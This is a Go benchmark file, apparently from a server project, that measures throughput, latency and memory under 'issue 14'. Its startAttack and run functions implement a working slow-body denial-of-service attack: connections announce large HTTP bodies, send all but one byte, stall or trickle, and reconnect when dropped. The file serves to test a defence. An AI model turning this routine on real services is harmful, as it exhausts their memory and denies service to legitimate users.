package main

import (
	"bytes"
	"fmt"
	"net"
	"net/http"
	"os"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// The attack of issue 14: connections that are not signed announce a large
// body (Content-Length), send all of it but the last byte, and stall (or
// trickle a byte every -trickle). A server that reads bodies before
// checking signatures holds each one in memory for as long as the
// connection lasts. When the server closes a connection, its attacker
// waits a second and opens another, so that -attack of them keep trying.

// attackers runs n attacking connections until stop is closed.
type attackers struct {
	addr    string
	size    int64
	trickle time.Duration
	stop    chan struct{}
	wg      sync.WaitGroup
	opened  atomic.Int64 // connections opened
	sent    atomic.Int64 // body bytes the server accepted
}

func startAttack(addr string, n int, size int64, trickle time.Duration) *attackers {
	a := &attackers{addr: addr, size: size, trickle: trickle, stop: make(chan struct{})}
	for range n {
		a.wg.Add(1)
		go a.run()
	}
	return a
}

func (a *attackers) close() {
	close(a.stop)
	a.wg.Wait()
}

func (a *attackers) stopped(d time.Duration) bool {
	select {
	case <-a.stop:
		return true
	case <-time.After(d):
		return false
	}
}

func (a *attackers) run() {
	defer a.wg.Done()
	chunk := bytes.Repeat([]byte("Action=ListIdentities&"), 256<<10/22)
	for {
		c, err := net.Dial("tcp", a.addr)
		if err != nil {
			if a.stopped(time.Second) {
				return
			}
			continue
		}
		a.opened.Add(1)
		// A small send buffer, as an attacker who pays for their own
		// machine would use: what the server does not read stays
		// unsent rather than copied into the kernel and thrown away.
		c.(*net.TCPConn).SetWriteBuffer(64 << 10)
		done := make(chan struct{})
		go func() { // the connection ends when the server closes it or stop
			select {
			case <-a.stop:
			case <-done:
			}
			c.Close()
		}()
		fmt.Fprintf(c, "POST / HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n", a.addr, a.size)
		left := a.size - 1
		for left > 0 {
			n := min(left, int64(len(chunk)))
			m, err := c.Write(chunk[:n])
			a.sent.Add(int64(m))
			if err != nil {
				break
			}
			left -= n
		}
		// Stall (or trickle) until the server gives up on the connection.
		buf := make([]byte, 4096)
		for left == 0 {
			if a.trickle > 0 {
				c.SetReadDeadline(time.Now().Add(a.trickle))
			}
			_, err := c.Read(buf)
			if ne, ok := err.(net.Error); ok && ne.Timeout() {
				continue // trickling: one more byte would end the body
			}
			if err != nil {
				break
			}
		}
		close(done)
		if a.stopped(time.Second) {
			return
		}
	}
}

// rss is the resident set size of a process, from /proc/PID/status.
func rss(pid int, field string) int64 {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		return 0
	}
	for _, line := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(line, field+":"); ok {
			var kb int64
			fmt.Sscan(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")), &kb)
			return kb << 10
		}
	}
	return 0
}

// peakRSS samples the server's RSS every 50 ms until stop, and returns the
// highest value.
func peakRSS(pid int, stop <-chan struct{}) <-chan int64 {
	out := make(chan int64, 1)
	go func() {
		var peak int64
		t := time.NewTicker(50 * time.Millisecond)
		defer t.Stop()
		for {
			peak = max(peak, rss(pid, "VmRSS"))
			select {
			case <-stop:
				out <- peak
				return
			case <-t.C:
			}
		}
	}()
	return out
}

type attackRun struct {
	rate    float64 // signed requests/s
	errors  int64
	p99     string
	peakRSS int64
	cpu     float64 // server CPU per signed request, µs
}

// attackBench runs alternating pairs of throughput phases, without and with
// the attack, and prints each and the medians.
func attackBench(client *http.Client, reqs []signed, addr string, workers, n, runs int, size int64, trickle time.Duration, dur time.Duration) {
	mode := "stall"
	if trickle > 0 {
		mode = "trickle a byte every " + trickle.String()
	}
	fmt.Printf("sesame attack benchmark: %d workers of signed GetIdentityVerificationAttributes, alone and beside %d unsigned connections that each announce %d MiB, send all but a byte and %s\n\n",
		workers, n, size>>20, mode)
	fmt.Printf("| run | phase | signed requests | errors | signed req/s | p99 | server peak RSS | server CPU per signed request | attack connections opened | attack bytes accepted |\n|---|---|---|---|---|---|---|---|---|---|\n")
	var alone, attacked []attackRun
	for i := range runs {
		for _, attack := range []bool{false, true} {
			var at *attackers
			if attack {
				at = startAttack(addr, n, size, trickle)
				time.Sleep(2 * time.Second) // let the connections open and send
			}
			stop := make(chan struct{})
			peak := peakRSS(serverPID, stop)
			cpu0 := cpuTime(serverPID)
			s := closedLoop(client, reqs, workers, dur)
			cpu := cpuTime(serverPID) - cpu0
			close(stop)
			r := attackRun{rate: float64(s.n) / dur.Seconds(), errors: s.errors, p99: s.pct(99), peakRSS: <-peak, cpu: cpu.Seconds() / float64(s.n) * 1e6}
			phase, opened, sent := "alone", "-", "-"
			if attack {
				phase = "attacked"
				opened, sent = fmt.Sprint(at.opened.Load()), fmt.Sprintf("%d MiB", at.sent.Load()>>20)
				at.close()
				attacked = append(attacked, r)
			} else {
				alone = append(alone, r)
			}
			fmt.Printf("| %d | %s | %d | %d | %.0f | %s | %d MiB | %.1f µs | %s | %s |\n", i+1, phase, s.n, s.errors, r.rate, r.p99, r.peakRSS>>20, r.cpu, opened, sent)
			time.Sleep(time.Second)
		}
	}
	med := func(rs []attackRun, f func(attackRun) float64) float64 {
		v := make([]float64, len(rs))
		for i, r := range rs {
			v[i] = f(r)
		}
		slices.Sort(v)
		return v[len(v)/2]
	}
	rate := func(r attackRun) float64 { return r.rate }
	mem := func(r attackRun) float64 { return float64(r.peakRSS >> 20) }
	ratios := make([]attackRun, len(alone))
	for i := range alone {
		ratios[i].rate = attacked[i].rate / alone[i].rate
	}
	fmt.Printf("\nmedian of %d: alone %.0f req/s, peak RSS %.0f MiB; attacked %.0f req/s, peak RSS %.0f MiB; attacked/alone %.2f (pairs: ",
		runs, med(alone, rate), med(alone, mem), med(attacked, rate), med(attacked, mem), med(ratios, rate))
	for i, r := range ratios {
		if i > 0 {
			fmt.Print(", ")
		}
		fmt.Printf("%.2f", r.rate)
	}
	fmt.Printf("); server VmHWM %d MiB\n", rss(serverPID, "VmHWM")>>20)
}
